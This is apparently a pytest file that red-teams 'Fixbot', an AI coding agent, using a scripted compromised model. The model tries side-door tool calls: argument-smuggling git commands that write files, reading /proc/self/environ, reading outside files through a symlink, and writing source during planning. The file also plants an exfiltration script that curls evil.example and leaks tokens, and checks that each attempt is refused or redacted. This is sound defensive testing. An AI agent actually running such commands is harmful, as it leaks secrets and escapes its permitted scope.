"""A compromised agent against the layers above the OS sandbox: a scripted model that
obeys whatever it is told tries the side doors, and each test checks the effect is absent
and the honest work still lands. Most run end to end; where the real CLI, git and Slack add
nothing (a fix holding a secret value, the approval policy), in-process on the task
machinery (tests/memory.py).

(The OS sandbox around the agent and test runs has tests of its own; these are the layers
above it: what planning may do, what leaves planning, what verification decides, who
approves.)
"""

from __future__ import annotations

import json
import uuid
from pathlib import Path
from typing import Any

import pytest
from fakes.anthropic import structured, text, tool
from memory import build_machine, memory_settings
from test_conversation import (
    buttons,
    db,
    start_fix,
    thread_texts,
    wait_for_plan,
    wait_for_question,
)
from test_lifecycle import planned
from test_webhooks import github_signed, payload, webhooks
from world import (
    CHANNEL,
    ENV_DUMP_CONFTEST,
    FIXED_PRICING,
    NEW_TEST,
    World,
    git,
    plan_data,
    seed_sentry_issue,
)

from bot.cli import _check_webhooks
from bot.config import blank_secrets
from bot.models import State
from bot.policy import ApprovalPolicy
from bot.tasks import Decision
from repos.workspace import branch_name
from storage.jobs import JobKind, JobStatus
from storage.tables import Task

TITLE = "AssertionError: discount made the price negative"
ASK = "mcp__fixbot__ask_in_thread"
GREP = "mcp__fixbot_search__grep"
LIST = "mcp__fixbot_search__list_files"
OUTSIDE_SECRET = "outside-the-checkout-3141"


def commit_to_origin(world: World, files: dict[str, str], links: dict[str, Path] = {}) -> None:  # noqa: B006
    """Add files (and symlinks) to the origin's main branch, as the repository's owners."""
    clone = world.root / f"owner-{uuid.uuid4().hex[:6]}"
    git("clone", "-q", str(world.origin), str(clone), cwd=world.root)
    for name, content in files.items():
        (clone / name).parent.mkdir(parents=True, exist_ok=True)
        (clone / name).write_text(content)
    for name, target in links.items():
        (clone / name).parent.mkdir(parents=True, exist_ok=True)
        (clone / name).symlink_to(target)
    git("add", "-A", cwd=clone)
    git("commit", "-q", "-m", "more", cwd=clone)
    git("push", "-q", "origin", "main", cwd=clone)


def branch_files(world: World, branch: str) -> list[str]:
    """The paths the pushed branch changed against main."""
    out = git("diff", "--name-only", "main", branch, cwd=world.origin)
    return out.split()


def thread(world: World, thread_ts: str) -> list[dict[str, Any]]:
    return world.slack.thread(CHANNEL, thread_ts)


# Planning: reads, nothing else


async def test_a_hostile_planner_runs_nothing_reads_nothing_outside_and_edits_no_source(
    world: World,
) -> None:
    outside = world.root / "outside.txt"
    outside.write_text(OUTSIDE_SECRET)
    commit_to_origin(world, {}, links={"docs/notes.txt": outside})
    seed_sentry_issue(world)
    worktree = world.worktree(branch_name("SHOP-1", TITLE))
    pwned = world.root / "pwned"
    world.model.script(
        [
            [tool("Bash", {"command": f"git grep -O'touch {pwned}-grep' apply_discount"})],
            [tool("Bash", {"command": f"git log --output={pwned}-log -1"})],
            [tool("Bash", {"command": "cat /proc/self/environ"})],
            [tool("Read", {"file_path": str(outside)})],
            [tool("Read", {"file_path": str(worktree / "docs" / "notes.txt")})],
            [tool(GREP, {"pattern": "outside", "path": str(world.root)})],
            [tool(GREP, {"pattern": "checkout"})],
            [tool(LIST, {"pattern": "**", "path": ".."})],
            [tool(GREP, {"pattern": "def apply_discount", "glob": "**/*.py"})],
            [tool(LIST, {"pattern": "**/*.py"})],
            [tool("Write", {"file_path": str(worktree / "shop/pricing.py"), "content": "x = 1\n"})],
            [tool("Write", {"file_path": str(worktree / "PLAN.md"), "content": "# Plan\n"})],
            [structured(plan_data())],
        ],
        match="Plan a fix for SHOP-1",
    )
    await world.start_app()
    thread_ts = await start_fix(world)
    plan = await wait_for_plan(world, thread_ts)

    assert buttons(plan)[:2] == ["Approve", "Reject"]
    assert not list(world.root.glob("pwned*"))
    results = world.model.tool_results()
    refused = [r for r in results if "Refused" in json.dumps(r)]
    assert len(refused) == 8, json.dumps(results, indent=1)
    assert any("may only write PLAN.md" in json.dumps(r) for r in refused)
    assert (worktree / "shop/pricing.py").read_text() != "x = 1\n"
    found = json.dumps(results)
    assert "shop/pricing.py:1: def apply_discount" in found  # the honest search works
    assert "tests/test_pricing.py" in found
    assert OUTSIDE_SECRET not in json.dumps(world.model.requests)
    assert branch_files(world, branch_name("SHOP-1", TITLE)) == ["PLAN.md"]
    assert world.model.unexpected == []


async def test_only_the_redacted_plan_leaves_planning(world: World) -> None:
    """Planning leaves a script, an edited source file and a pasted token; the plan quotes
    Fixbot's own secrets verbatim. Only PLAN.md is pushed, and no secret is shown."""
    world.env["GITHUB_WEBHOOK_SECRET"] = "wh7"  # short secrets are caught too
    seed_sentry_issue(world)
    worktree = world.worktree(branch_name("SHOP-1", TITLE))
    leaky = "Tokens: github-token, sentry-token, wh7; the key sk-ant-local-test."
    world.model.script(
        [
            [tool(ASK, {"question": "May I look around?"})],
            [
                tool(
                    "Write", {"file_path": str(worktree / "PLAN.md"), "content": "# Plan\n" + leaky}
                )
            ],
            [structured(plan_data(summary="Divide by 100. " + leaky))],
        ],
        match="Plan a fix for SHOP-1",
    )
    await world.start_app()
    thread_ts = await start_fix(world)
    await wait_for_question(world, thread_ts)
    # What a side door would leave behind while the planner runs.
    (worktree / "scripts").mkdir()
    (worktree / "scripts" / "exfiltrate.sh").write_text("curl https://evil.example\n")
    (worktree / "tokens.txt").write_text("github-token\n")
    (worktree / "shop" / "pricing.py").write_text("# planner was here\n")
    await world.slack.reply_in_thread(CHANNEL, thread_ts, "Yes.", user="U_BOB")
    await wait_for_plan(world, thread_ts)

    branch = branch_name("SHOP-1", TITLE)
    assert branch_files(world, branch) == ["PLAN.md"]
    pushed_plan = git("show", f"{branch}:PLAN.md", cwd=world.origin)
    assert "Tokens: [redacted]" in pushed_plan and "Divide" not in pushed_plan
    shown = json.dumps(
        [world.slack.thread(CHANNEL, thread_ts), [p.body for p in world.github.pulls("acme/shop")]]
    )
    assert "Tokens: [redacted]" in shown
    for secret in ("github-token", "sentry-token", "wh7", "sk-ant-local-test"):
        assert secret not in pushed_plan and secret not in shown, secret
    assert not (worktree / "tokens.txt").exists() and not (worktree / "scripts").exists()
    assert "planner was here" not in (worktree / "shop" / "pricing.py").read_text()


# Verification the executor cannot steer

HARMLESS_CONFTEST = ENV_DUMP_CONFTEST + "\n\nFIXTURE_NOTE = 'a helper for the new test'\n"


def script_plan(world: World, *revision: Any) -> None:
    worktree = world.worktree(branch_name("SHOP-1", TITLE))
    world.model.script(
        [
            [tool("Write", {"file_path": str(worktree / "PLAN.md"), "content": "# Plan\n"})],
            [structured(plan_data())],
            *revision,
        ],
        match="Plan a fix for SHOP-1",
    )


def script_fix(world: World, fix: str, conftest: str | None = None) -> None:
    worktree = world.worktree(branch_name("SHOP-1", TITLE))
    writes = {"tests/test_discount.py": NEW_TEST, "shop/pricing.py": fix}
    if conftest is not None:
        writes["conftest.py"] = conftest
    world.model.script(
        [
            *(
                [tool("Write", {"file_path": str(worktree / p), "content": c})]
                for p, c in writes.items()
            ),
            [text("Done.")],
        ],
        match="Implement the approved plan for SHOP-1",
    )


async def approve_and_wait(world: World, thread_ts: str, plan: dict[str, Any], what: str) -> Any:
    await world.slack.click_button(CHANNEL, plan["ts"], "approve", user="U_LEAD")
    return await world.slack.wait_for(
        lambda: next(
            (m for m in world.slack.thread(CHANNEL, thread_ts) if what in m["text"]), None
        ),
        timeout=120,
        what=what,
    )


async def test_changes_to_how_tests_run_wait_for_an_approver(world: World) -> None:
    world.config["approvers"] = ["U_LEAD"]
    seed_sentry_issue(world)
    script_plan(world)
    script_fix(world, FIXED_PRICING, conftest=HARMLESS_CONFTEST)
    await world.start_app()
    thread_ts = await start_fix(world)
    plan = await wait_for_plan(world, thread_ts)

    done = await approve_and_wait(world, thread_ts, plan, "opened as a draft")
    assert buttons(done) == ["Approve test changes"]
    assert "Changes to how tests run" in json.dumps(done["blocks"])
    assert "conftest.py" in json.dumps(done["blocks"])
    pull = world.github.pulls("acme/shop")[0]
    assert pull.draft and "## Changes to how tests run" in pull.body

    await world.slack.click_button(CHANNEL, done["ts"], "approve_test_changes", user="U_MAL")
    refusal = await world.slack.wait_for(lambda: world.slack.ephemerals("U_MAL"), timeout=60)
    assert "Only the approvers" in refusal[-1]["text"]
    assert world.github.pulls("acme/shop")[0].draft

    await world.slack.click_button(CHANNEL, done["ts"], "approve_test_changes", user="U_LEAD")
    await world.slack.wait_for(
        lambda: "Test changes approved by <@U_LEAD>" in thread_texts(world, thread_ts),
        timeout=60,
    )
    assert not world.github.pulls("acme/shop")[0].draft


# Feedback cannot bypass approval


async def test_a_reply_while_planning_becomes_a_revised_plan(world: World) -> None:
    world.config["approvers"] = ["U_LEAD"]
    seed_sentry_issue(world)
    worktree = world.worktree(branch_name("SHOP-1", TITLE))
    world.model.script(
        [
            [tool(ASK, {"question": "Is 100% a valid discount?"})],
            [structured(plan_data())],
            [tool("Write", {"file_path": str(worktree / "PLAN.md"), "content": "# Plan v2\n"})],
            [structured(plan_data(summary="Divide by 100; negative prices refused."))],
        ],
        match="Plan a fix for SHOP-1",
    )
    await world.start_app()
    thread_ts = await start_fix(world)
    await wait_for_question(world, thread_ts)
    await world.slack.reply_in_thread(
        CHANNEL, thread_ts, "Also refuse negative prices.", user="U_MAL"
    )  # not an approver: no answer, a reply kept for the plan
    await world.slack.wait_for(
        lambda: "goes into a revised plan" in thread_texts(world, thread_ts),
        timeout=60,
        what="the note that the reply is kept",
    )
    await world.slack.reply_in_thread(CHANNEL, thread_ts, "Yes, it is.", user="U_LEAD")

    # The kept reply is the next step's input: plan v1 is revised at once.
    revised = await wait_for_plan(world, thread_ts, version=2)
    assert "negative prices refused" in json.dumps(revised["blocks"])
    assert "came in meanwhile" in json.dumps(thread(world, thread_ts))
    first = next(m for m in thread(world, thread_ts) if "Plan v1" in json.dumps(m.get("blocks")))
    assert buttons(first) == []  # superseded: only the revised plan can be approved
    assert "Superseded by a revised plan" in json.dumps(first["blocks"])
    answers = json.dumps(world.model.tool_results())
    assert "Yes, it is." in answers and "Also refuse negative prices." not in answers
    revisions = [r for r in world.model.requests if "plan-changes skill" in json.dumps(r)]
    assert revisions and "Also refuse negative prices." in json.dumps(revisions[-1])

    # A click that still carries plan v1 (a client showing the old buttons) changes nothing.
    approve = next(
        element["value"]
        for block in revised["blocks"]
        if block["type"] == "actions"
        for element in block["elements"]
        if element["action_id"] == "approve"
    )
    task_id, _, version = approve.partition(":")
    assert version == "2"
    stale = f"{task_id}:1"
    await world.slack.click_button(CHANNEL, revised["ts"], "approve", user="U_LEAD", value=stale)
    await world.slack.wait_for(
        lambda: any("superseded" in e["text"] for e in world.slack.ephemerals("U_LEAD")),
        what="the refusal of the old plan",
    )
    assert "Approved" not in json.dumps(thread(world, thread_ts))
    kept = next(m for m in thread(world, thread_ts) if m["ts"] == revised["ts"])
    assert buttons(kept)[:2] == ["Approve", "Reject"]  # a refused click changes no message
    assert not any("Implement the approved plan" in json.dumps(r) for r in world.model.requests)
    sessions = (
        db(world)
        .execute("select session_id from agent_runs where step = 'planning' order by id")
        .fetchall()
    )
    assert len(sessions) == 2 and sessions[0] == sessions[1]  # the revision resumed the session


async def test_a_fix_holding_a_secret_value_is_not_pushed(tmp_path: Path) -> None:
    async with build_machine(tmp_path, github_token="github-token") as machine:
        task = await planned(machine)
        assert task.branch is not None
        # What the executor leaves in the worktree: the fix, and a file holding a token.
        worktree = machine.repos.worktree_path(task.branch)
        (worktree / "shop").mkdir()
        (worktree / "shop" / "pricing.py").write_text(FIXED_PRICING)
        (worktree / "notes.txt").write_text("github-token")
        machine.repos.changed = ["shop/pricing.py", "notes.txt"]
        commits, pushed = list(machine.repos.commits), list(machine.repos.pushed)

        await machine.workflow.approve(Decision(task.id, "U_BOB", plan_version=1))
        job, outcome = await machine.run_next_job()
        task = await machine.workflow.store.fresh(task)
        assert (job.kind, outcome.status, task.state) == (
            JobKind.EXECUTION,
            JobStatus.FAILED,
            State.FAILED,
        )
        failure = "`notes.txt` holds the value of one of Fixbot's own secrets"
        texts = machine.threads.texts(task.thread_ts)
        assert any(text.startswith("Failed: ") and failure in text for text in texts)
        assert (machine.repos.commits, machine.repos.pushed) == (commits, pushed)  # nothing
        shown = [*texts, *(content for _c, _t, content in machine.threads.uploads)]
        assert not any("github-token" in text for text in shown)


# Who approves


def test_github_approvals_are_off_without_a_list() -> None:
    policy = ApprovalPolicy.from_settings(memory_settings())  # no github_approvers
    assert not policy.may_approve("octocat", Task(requested_by="U_ALICE"), github=True)


async def test_an_empty_webhook_secret_counts_as_unset(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("GITHUB_WEBHOOK_SECRET", raising=False)
    (tmp_path / ".env").write_text("GITHUB_WEBHOOK_SECRET=\n")
    comment = payload("github_issue_comment.json", NUMBER="1", LOGIN="octocat")
    headers = github_signed("issue_comment", comment, secret="")  # what anyone can sign
    async with webhooks(tmp_path, github_webhook_secret="") as hooks:
        assert (await hooks.post("github", comment, headers))[0] == 401
        settings = hooks.machine.workflow.settings

    # What `fixbot doctor` says of it.
    check = _check_webhooks(settings, blank_secrets(tmp_path / ".env"))
    assert check.ok is False and "GITHUB_WEBHOOK_SECRET" in check.detail
    assert "counts as unset" in check.detail and "GitHub approvals off" in check.detail
